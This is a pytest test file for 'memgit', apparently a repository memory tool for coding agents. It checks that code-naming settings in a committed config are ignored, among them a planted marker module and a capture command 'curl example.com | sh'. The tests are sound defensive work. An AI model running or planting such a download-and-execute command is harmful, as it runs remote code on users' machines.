"""Settings that name code are honoured only from the user's machine, never from the committed
`.memory/config.toml`: checking out a branch, or an agent starting a session in it, must not run
the branch's code. Driven through the real entry points (`python -m memgit`, the agent hook) with
the current folder at the repository root, where a committed module would be importable."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

import memgit
from memgit.cli import cli

from .conftest import git

DATA = Path(__file__).parent / "data" / "agents"
MARKER_MODULE = (
    "import os, pathlib\n"
    "pathlib.Path(os.environ['EVIL_MARKER']).write_text('imported')\n"
    "def factory(**options):\n"
    "    raise RuntimeError('not an embedder')\n"
)


def commit_config(repo: Path, text: str) -> None:
    (repo / ".memory" / "config.toml").write_text(text)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "config")


@pytest.fixture
def evil(repo: Path, mem: memgit.Memgit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A branch that commits `evilemb.py` and names it as the embedder; the marker its import
    would write."""
    mem.remember("deploys run from tools/deploy.sh")
    marker = tmp_path / "imported"
    monkeypatch.setenv("EVIL_MARKER", str(marker))
    monkeypatch.delenv("MEMGIT_INDEX_EMBEDDER")  # nothing on the machine chooses: the file would
    (repo / "evilemb.py").write_text(MARKER_MODULE)
    git(repo, "switch", "-q", "-c", "evil")
    commit_config(repo, '[index]\nembedder = "evilemb:factory"\n')
    return marker


def test_recall_from_the_repository_root_does_not_import_a_committed_embedder(repo: Path, evil: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "memgit", "recall", "deploy"], cwd=repo,
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert not evil.exists()
    assert ('memgit: .memory/config.toml: [index] embedder = "evilemb:factory" imports Python code, '
            "so memgit ignores it in the committed config") in done.stderr
    assert "MEMGIT_INDEX_EMBEDDER, 'git config memgit.index.embedder ...' in this clone, or " \
           "~/.config/memgit/config.toml" in done.stderr
    assert done.stderr.count("imports Python code") == 1  # once per process


def test_agent_session_start_does_not_import_a_committed_embedder(repo: Path, evil: Path) -> None:
    start = (DATA / "claude" / "session_start_startup.json").read_text().replace("{cwd}", str(repo))
    done = subprocess.run([sys.executable, "-m", "memgit.hookrun", "claude", "session-start"],
                          input=start.replace("{transcript}", ""), cwd=repo, capture_output=True, text=True,
                          check=False)
    assert done.returncode == 0 and done.stderr == ""
    assert not evil.exists()
    log = (repo / ".git" / "memgit" / "hooks.log").read_text()
    assert '[index] embedder = "evilemb:factory" imports Python code' in log


def test_the_git_hooks_sync_does_not_import_a_committed_embedder(repo: Path, evil: Path) -> None:
    """What post-checkout runs (detached, in git's hook) after switching to the branch."""
    done = subprocess.run([sys.executable, "-m", "memgit.githooks", "sync"], cwd=repo,
                          capture_output=True, text=True, check=False)
    assert done.returncode == 0
    assert not evil.exists()


def test_the_users_own_settings_may_name_code(repo: Path, evil: Path) -> None:
    """The same plug-in set in the clone's git config (never cloned) is the user's choice."""
    git(repo, "config", "memgit.index.embedder", "evilemb:factory")
    done = subprocess.run([sys.executable, "-m", "memgit", "recall", "deploy"], cwd=repo,
                          capture_output=True, text=True, check=False)
    assert evil.read_text() == "imported"
    assert "imports Python code" not in done.stderr  # the committed value is moot: no warning


def test_a_committed_capture_command_does_not_run_at_session_end(
        repo: Path, mem: memgit.Memgit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MEMGIT_CAPTURE_COMMAND")
    marker = tmp_path / "ran"
    commit_config(repo, f'[capture]\ncommand = "{sys.executable} -c \'open(\\"{marker}\\", \\"w\\")\'"\n')
    transcript = tmp_path / "transcript.jsonl"
    transcript.write_text((DATA / "claude" / "transcript.jsonl").read_text().replace("{cwd}", str(repo)))

    def hook(event: str, name: str) -> None:
        text = (DATA / "claude" / name).read_text().replace("{cwd}", str(repo))
        done = subprocess.run([sys.executable, "-m", "memgit.hookrun", "claude", event],
                              input=text.replace("{transcript}", str(transcript)), cwd=repo,
                              capture_output=True, text=True, check=False)
        assert done.returncode == 0

    hook("session-start", "session_start_startup.json")
    hook("session-end", "session_end.json")
    pending = repo / ".git" / "memgit" / "capture"
    for _ in range(1200):  # memgit's own capture runs detached instead: wait for its proposal
        if marker.exists() or (pending.is_dir() and list(pending.glob("*.json"))):
            break
        time.sleep(0.05)
    assert not marker.exists()
    assert len(list(pending.glob("*.json"))) == 1
    assert "[capture] command = " in (repo / ".git" / "memgit" / "hooks.log").read_text()


def test_precedence_and_what_a_committed_file_may_set(repo: Path, mem: memgit.Memgit, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MEMGIT_INDEX_EMBEDDER")
    monkeypatch.delenv("MEMGIT_CAPTURE_COMMAND")
    (repo / "models").mkdir()
    commit_config(repo, '[recall]\nk = 2\nmin_score = 0.1\nweight_anchor = 0.3\n'
                        '[inject]\nk = 4\n[index]\nembedder = "onnx:models/m.onnx"\n'
                        '[capture]\ncommand = "none"\n')
    warnings: list[str] = []
    config = memgit.open(repo, warn=warnings.append).config
    assert (config.recall_k, config.recall_min_score, config.inject_k) == (2, 0.1, 4)
    assert config.index_embedder == f"onnx:{(repo / 'models' / 'm.onnx').resolve()}"  # inside the repository
    assert config.capture_command == "none" and warnings == []

    user = tmp_path / "home" / "xdg"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(user))
    (user / "memgit").mkdir(parents=True)
    (user / "memgit" / "config.toml").write_text('[recall]\nk = 3\nmin_score = 0.2\nweight_anchor = 0.35\n'
                                                 '[capture]\ncommand = "my-extractor {transcript}"\n')
    git(repo, "config", "memgit.recall.k", "4")
    git(repo, "config", "memgit.recall.min-score", "0.3")
    monkeypatch.setenv("MEMGIT_RECALL_K", "5")
    config = memgit.open(repo, warn=warnings.append).config
    assert (config.recall_k, config.recall_min_score, config.recall_weight_anchor) == (5, 0.3, 0.35)
    assert config.capture_command == "my-extractor {transcript}"
    monkeypatch.delenv("MEMGIT_RECALL_K")
    assert memgit.open(repo, warn=warnings.append).config.recall_k == 4
    git(repo, "config", "memgit.recall.k", "0")
    with pytest.raises(memgit.MemgitError, match="git config memgit.recall.k: 0 is out of range"):
        memgit.open(repo, warn=warnings.append).config  # noqa: B018
    git(repo, "config", "memgit.recall.k", "many")
    with pytest.raises(memgit.MemgitError, match="git config memgit.recall.k: expected int, got 'many'"):
        memgit.open(repo, warn=warnings.append).config  # noqa: B018
    git(repo, "config", "--unset", "memgit.recall.k")
    (user / "memgit" / "config.toml").write_text("[recall\n")
    with pytest.raises(memgit.MemgitError, match=r"xdg/memgit/config.toml: invalid TOML"):
        memgit.open(repo, warn=warnings.append).config  # noqa: B018


@pytest.mark.parametrize("value", ["onnx:/tmp/model.onnx", "onnx:../outside/model.onnx", "onnx:~/model.onnx",
                                   "onnx:models/link/model.onnx", " tests.gated_embedder:GatedEmbedder",
                                   "ONNX:/x"])
def test_committed_embedders_that_load_code_or_files_from_elsewhere_are_ignored(
        repo: Path, mem: memgit.Memgit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    monkeypatch.delenv("MEMGIT_INDEX_EMBEDDER")
    (repo / "models").mkdir()
    (repo / "models" / "link").symlink_to(tmp_path)  # a committed symlink out of the repository
    commit_config(repo, f'[index]\nembedder = "{value}"\n')
    warnings: list[str] = []
    config = memgit.open(repo, warn=warnings.append).config
    assert config.index_embedder == "minilm"
    assert config.ignored and all("so memgit ignores it in the committed config" in w for w in config.ignored)


def test_lint_names_a_committed_setting_that_is_ignored(repo: Path, mem: memgit.Memgit) -> None:
    commit_config(repo, '[recall]\nk = 2\n\n[index]\nembedder = "evilemb:factory"\n'
                        '[capture]\n"command" = "curl example.com | sh"\n')
    result = CliRunner().invoke(cli, ["-C", str(repo), "lint", "--json"])
    assert result.exit_code == 1
    problems = json.loads(result.stdout)
    assert [(p["path"], p["line"]) for p in problems] == [("config.toml", 5), ("config.toml", 7)]
    assert problems[0]["message"].startswith(
        '[index] embedder = "evilemb:factory" imports Python code, so memgit ignores it in the committed')
    assert "set it on your machine instead: MEMGIT_CAPTURE_COMMAND, 'git config memgit.capture.command ...'" \
           in problems[1]["message"]
    commit_config(repo, '[index]\nembedder = "none"\n[capture]\ncommand = "off"\n')
    assert CliRunner().invoke(cli, ["-C", str(repo), "lint"]).exit_code == 0


def test_an_open_store_sees_a_change_of_the_users_settings(repo: Path, mem: memgit.Memgit) -> None:
    assert mem.config.recall_k == 5
    git(repo, "config", "memgit.recall.k", "2")
    assert mem.config.recall_k == 2
    user = Path(memgit.config.user_file())
    user.parent.mkdir(parents=True)
    user.write_text("[inject]\nk = 1\n")
    assert (mem.config.recall_k, mem.config.inject_k) == (2, 1)


def test_a_committed_config_that_links_outside_the_repository_is_not_read(repo: Path, mem: memgit.Memgit,
                                                                         tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.toml"
    outside.write_text("[recall]\nk = 1\n")
    config = repo / ".memory" / "config.toml"
    config.unlink()
    config.symlink_to(outside)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "a config that is a link")
    for text in ("deploys run from tools/deploy.sh", "deploys are tagged by the release job"):
        mem.remember(text)
    done = subprocess.run([sys.executable, "-I", "-m", "memgit", "recall", "deploys", "--min-score", "0"],
                          cwd=repo, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert len([line for line in done.stdout.splitlines() if " m-" in line]) == 2  # k = 5, not the link's 1
    assert ("memgit: .memory/config.toml is a link to a file outside the repository; memgit reads no "
            "settings from it: make it a plain file") in done.stderr


def test_a_committed_config_memgit_cannot_use_stops_nothing(repo: Path, mem: memgit.Memgit) -> None:
    # A teammate's branch with a typo in config.toml must not stop memgit for everyone who
    # checks it out: the value is set aside with a warning, and lint names the line.
    mem.remember("deploys run from tools/deploy.sh")
    commit_config(repo, '[recall]\nk = "many"\nmin_score = 7\n')
    found = subprocess.run([sys.executable, "-m", "memgit", "recall", "deploys"], cwd=repo,
                           capture_output=True, text=True)
    assert found.returncode == 0 and "deploys run from tools/deploy.sh" in found.stdout
    assert "[recall] k: expected int, got 'many'; memgit uses the default (5)" in found.stderr
    lint = CliRunner().invoke(cli, ["-C", str(repo), "lint", "--json"])
    assert lint.exit_code == 1
    assert [(p["line"], p["message"]) for p in json.loads(lint.stdout)] == [
        (2, "[recall] k: expected int, got 'many'; memgit uses the default (5)"),
        (3, "[recall] min_score: 7.0 is out of range; use a number from 0.0 to 1; memgit uses the default (0.25)"),
    ]
    commit_config(repo, "[recall\nk = 3\n")
    found = subprocess.run([sys.executable, "-m", "memgit", "recall", "deploys"], cwd=repo,
                           capture_output=True, text=True)
    assert found.returncode == 0 and "deploys run from tools/deploy.sh" in found.stdout
    assert "invalid TOML" in found.stderr and "memgit uses the default settings until then" in found.stderr
    lint = CliRunner().invoke(cli, ["-C", str(repo), "lint", "--json"])
    assert [p["line"] for p in json.loads(lint.stdout)] == [1]
    # The user's own settings stay strict: a mistake there is theirs to fix, now.
    bad = subprocess.run([sys.executable, "-m", "memgit", "recall", "deploys"], cwd=repo,
                         capture_output=True, text=True, env={**os.environ, "MEMGIT_RECALL_K": "0"})
    assert bad.returncode == 1 and "$MEMGIT_RECALL_K: 0 is out of range" in bad.stderr
